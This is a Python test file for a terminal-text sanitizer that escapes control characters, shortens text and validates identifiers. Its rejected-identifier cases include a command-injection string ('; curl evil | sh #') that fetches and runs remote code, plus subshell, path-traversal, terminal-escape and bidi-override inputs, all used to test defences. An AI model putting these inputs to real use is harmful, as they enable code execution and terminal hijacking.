"""Foreign text on its way to a terminal."""

import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from studytui.text import MOST_MARKS, display, first_line, is_id, nearest, shorten

ANY = st.text(
    st.characters()
    | st.sampled_from("\x00\x07\x0b\x0c\x1b\x7f\x85\x9b\x9d\u202e\u2066\u2028\u2029\n\r\t")
    | st.characters(categories=["Cs", "Mn"])
)
PLAIN = st.text(st.characters(categories=["L", "N", "P", "S", "Zs"]))


def drives_a_terminal(letter: str) -> bool:
    return unicodedata.category(letter) in {"Cc", "Cs", "Zl", "Zp"} or (
        unicodedata.bidirectional(letter)
        in {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}
    )


@given(ANY)
def test_nothing_drives_the_terminal(text: str) -> None:
    assert not any(map(drives_a_terminal, display(text)))
    assert not any(map(drives_a_terminal, re.sub("[\n\t]", "", display(text, lines=True))))


@given(ANY, st.booleans())
def test_what_is_safe_stays_as_it_is(text: str, lines: bool) -> None:
    safe = display(text, lines=lines)
    assert display(safe, lines=lines) == safe
    safe.encode("utf-8")


@given(PLAIN)
def test_plain_text_is_not_changed(text: str) -> None:
    assert display(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[/]", "[/]"),
        ("List[int]", "List[int]"),
        ("[@click=app.quit]x", "[@click=app.quit]x"),
        ("naïve 中 😀 שלום", "naïve 中 😀 שלום"),
        ("\x1b]52;c;aGk=\x07", "␛]52;c;aGk=␇"),
        ("\x1b[2J", "␛[2J"),
        ("a\x9b2Jb", "a�2Jb"),
        ("\ud800", "�"),
        ("a\u202eb\u2066c", "a�b�c"),
        ("a\u2028b\x85c", "a b c"),
        ("\x7f\x00", "␡␀"),
        ("a\tb\nc\rd", "a b c d"),
        ("e\u0301\u0323", "e\u0301\u0323"),
        ("Z" + "\u0300" * 100, "Z" + "\u0300" * MOST_MARKS),
    ],
)
def test_what_is_shown(text: str, shown: str) -> None:
    assert display(text) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\nb\tc", "a\nb\tc"),
        ("a\r\nb\rc\n\rd", "a\nb\nc\n\nd"),
        ("a\x1b[2J\nb", "a␛[2J\nb"),
        ("a\x0bb\x0cc", "a␋b␌c"),
        ("a\u2028b", "a b"),
    ],
)
def test_several_lines(text: str, shown: str) -> None:
    assert display(text, lines=True) == shown


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("", ""),
        (" \n\t\r\n", ""),
        ("one", "one"),
        ("\n\n  two \nthree", "two"),
        ("\x1b[2J\nb", "␛[2J"),
        ("a\u2028b", "a"),
    ],
)
def test_the_first_line(text: str, line: str) -> None:
    assert first_line(text) == line


@given(ANY)
def test_the_first_line_is_one_safe_line(text: str) -> None:
    assert not any(map(drives_a_terminal, first_line(text)))


@pytest.mark.parametrize(
    ("text", "width", "short"),
    [
        ("abc", 3, "abc"),
        ("abcd", 3, "ab…"),
        ("abcd", 1, "…"),
        ("abcd", 0, ""),
        ("abcd", -5, ""),
        ("", 0, ""),
        ("", -1, ""),
    ],
)
def test_shortening(text: str, width: int, short: str) -> None:
    assert shorten(text, width) == short


@given(ANY, st.integers(0, 30))
def test_what_is_shortened_fits(text: str, width: int) -> None:
    assert len(shorten(text, width)) <= width
    assert shorten(text, len(text)) == text


@pytest.mark.parametrize(
    ("word", "known", "meant"),
    [
        ("titel", ["title", "tip"], "title"),
        ("TITLE", ["title", "tip"], "title"),
        ("python", ["Python", "PyPy"], "Python"),
        ("xyz", ["title", "tip"], None),
        ("", ["title"], None),
        ("title", [], None),
    ],
)
def test_the_nearest_word(word: str, known: list[str], meant: str | None) -> None:
    assert nearest(word, known) == meant


@pytest.mark.parametrize(
    "text",
    [
        *("loops", "a.b_c-1", "2026-03-11", "-x", "größe", "ループ", "हिन्दी", "می\u200cخواهم"),
        "x" * 200,
    ],
)
def test_what_can_be_an_id(text: str) -> None:
    assert is_id(text)


@pytest.mark.parametrize(
    "text",
    [
        *(
            "",
            " ",
            "a b",
            "a\u00a0b",
            "a\u3000b",
            "x\n",
            "\tx",
            "; curl evil | sh #",
            "$(x)",
            "`x`",
        ),
        *("a'b", 'a"b', "~root", "*", "a?", "[x]", "{a,b}", "!!", "a>b", "a&b", "=1", "@x", "+1"),
        *(
            "../x",
            "a\\b",
            "C:x",
            "\x1b[31m",
            "\x9b",
            "\x7f",
            "\u202eb",
            "\u2028",
            "\ufeffa",
            "\ud800",
        ),
        "x" * 201,
    ],
)
def test_what_cannot_be_an_id(text: str) -> None:
    assert not is_id(text)


@given(ANY)
def test_an_id_is_shown_as_it_is(text: str) -> None:
    assert not is_id(text) or not any(map(drives_a_terminal, text))
